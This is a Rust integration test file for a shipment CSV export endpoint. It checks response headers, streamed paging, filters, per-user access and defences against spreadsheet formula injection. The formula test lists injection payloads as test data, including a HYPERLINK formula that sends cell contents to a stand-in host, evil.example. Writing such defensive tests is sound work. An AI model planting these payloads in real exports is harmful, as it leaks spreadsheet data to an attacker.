//! The CSV export: whole, as it streams, harmless in a spreadsheet, and for those who may.
use std::fmt::Write as _;

use axum::body::Body;
use axum::http::Request;
use features::export::HEADER;
use futures::StreamExt as _;
use tower::ServiceExt as _;

use crate::support::{TestApp, both};

both! {
    the_file_has_a_header_and_every_shipment,
    the_file_comes_piece_by_piece,
    no_cell_is_a_formula,
    the_file_is_narrowed_as_the_list_is,
    the_file_is_for_those_who_may,
}

const FILE: &str = "/a/nebula/shipments.csv";
const ADA: &str = "ada@nebula.example";

async fn the_file_has_a_header_and_every_shipment(app: TestApp) {
    let ada = app.sign_in(ADA).await;
    let answer = ada.get(FILE).await;
    assert_eq!((answer.status, answer.header("content-type")), (200, "text/csv; charset=utf-8"));
    assert_eq!(answer.header("content-disposition"), "attachment; filename=\"nebula-shipments.csv\"");
    assert_eq!((answer.header("cache-control"), answer.header("x-content-type-options")), ("no-store", "nosniff"));
    let text = answer.text();
    assert!(text.starts_with(HEADER) && text.split("\r\n").count() == 8 && !text.replace("\r\n", "").contains('\n'));
    let first: Vec<_> = text.lines().skip(1).map(|line| line.split(',').next().unwrap_or_default()).collect();
    assert_eq!(first, ["1001", "1002", "1003", "1004", "1005", "1006"]);
    let lucia = "1001,PK0001001ES,N-1001,1000,Ready to send,correos,,ES,1200,39.90,EUR,2026-11-18T09:00:00Z,2026-11-18T09:00:00Z,\
                 2026-11-18T09:05:00Z,Lucía Ortega,,Calle de la Luna,7,,Sevilla,41001,'+34 600 100 101,lucia.ortega@correo.example,ref-1001";
    assert_eq!(text.lines().find(|line| line.starts_with("1001,")), Some(lucia));
    assert_eq!(app.entries().await, 0);
}

async fn the_file_comes_piece_by_piece(app: TestApp) {
    let mut rows = "parcel_id,country,created\n".to_owned();
    for n in 0..1100 {
        let _ = writeln!(rows, "{},ES,2026-11-01T00:{:02}:00Z", 10_000 + n, n % 60);
    }
    app.bring("nebula", &rows).await;
    let token = app.sign_in(ADA).await.token.expect("a session");
    let request = Request::get(FILE).header("cookie", format!("aldaba_session={token}")).body(Body::empty());
    let response = app.router.clone().oneshot(request.expect("a request")).await.expect("an answer");
    let pieces: Vec<_> = response.into_body().into_data_stream().map(|piece| piece.expect("a piece")).collect().await;
    let lines = |piece: &axum::body::Bytes| String::from_utf8_lossy(piece).matches('\n').count();
    assert_eq!(
        pieces.iter().map(lines).collect::<Vec<_>>(),
        [1, 500, 500, 106],
        "the header, then pages of a bounded size"
    );
    let text = String::from_utf8(pieces.concat()).expect("UTF-8");
    let mut ids: Vec<_> = text.lines().skip(1).filter_map(|line| line.split(',').next()).collect();
    ids.sort_unstable();
    ids.dedup();
    assert_eq!(ids.len(), 1106, "each once");
}

async fn no_cell_is_a_formula(app: TestApp) {
    let formulas = [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\"=HYPERLINK(\"\"http://evil.example?\"\"&A1,\"\"x\"\")\"",
        "'=1",
        "''=1",
        "＝1",
    ];
    let mut rows = "parcel_id,country,created,name,company,tracking_number,order_number\n".to_owned();
    for (n, formula) in formulas.iter().enumerate() {
        let _ = writeln!(rows, "{},ES,2026-12-01,{formula},{formula},{formula},{formula}", 20_000 + n);
    }
    app.bring("nebula", &rows).await;
    let text = app.sign_in(ADA).await.get(FILE).await.text();
    for line in text.lines().skip(1) {
        let cells = line.split(',').map(|cell| cell.trim_start_matches('"'));
        let live: Vec<_> = cells.filter(|cell| cell.starts_with(['=', '+', '-', '@', '＝', '\t'])).collect();
        assert!(live.is_empty(), "{live:?} in {line}");
    }
    assert!(text.contains("20000,'=1+1,'=1+1,") && text.contains("20006,''=1,''=1,"), "{text}");
}

async fn the_file_is_narrowed_as_the_list_is(app: TestApp) {
    let ada = app.sign_in(ADA).await;
    let found = async |query: &str| {
        let text = ada.get(&format!("{FILE}?{query}")).await.text();
        let mut ids: Vec<_> =
            text.lines().skip(1).filter_map(|line| line.split(',').next()).map(str::to_owned).collect();
        ids.sort();
        ids
    };
    assert_eq!(found("carrier=dhl").await, ["1003", "1005"]);
    assert_eq!(found("status=1000&country=FR").await, ["1004"]);
    assert_eq!(found("q=lucia+ortega").await, ["1001"]);
    assert_eq!(found("from=2026-11-20").await, ["1004"]);
    assert_eq!(found("after=1.aaaaaaaaaaaaaaaaaaaaaaaa").await.len(), 6, "a file has no pages");
    assert_eq!(found("q=nothing+like+it").await, [""; 0]);
    assert_eq!(found("q=%00").await.len(), 6);
}

async fn the_file_is_for_those_who_may(app: TestApp) {
    let stranger = app.stranger().get(FILE).await;
    assert_eq!((stranger.status, stranger.location()), (303, "/sign-in?next=/a/nebula/shipments.csv"));
    let ada = app.sign_in(ADA).await;
    ada.grant("nebula", &[("scope", "full"), ("duration", "30d")]).await;
    for (email, status) in [
        ("omar@nebula.example", 200),
        ("mia@nebula.example", 403),
        ("sara@sol.example", 404),
        ("ana@support.example", 403),
        ("lidia@support.example", 403),
    ] {
        let answer = app.sign_in(email).await.get(FILE).await;
        assert_eq!(answer.status, status, "{email}");
        assert_eq!(answer.text().contains("PK0001001ES"), status == 200, "{email}");
    }
    assert_eq!(ada.get("/a/no-such-account/shipments.csv").await.status, 404);
    assert_eq!(
        app.sign_in("sara@sol.example").await.get("/a/sol/shipments.csv").await.text().matches("\r\n").count(),
        3
    );
}
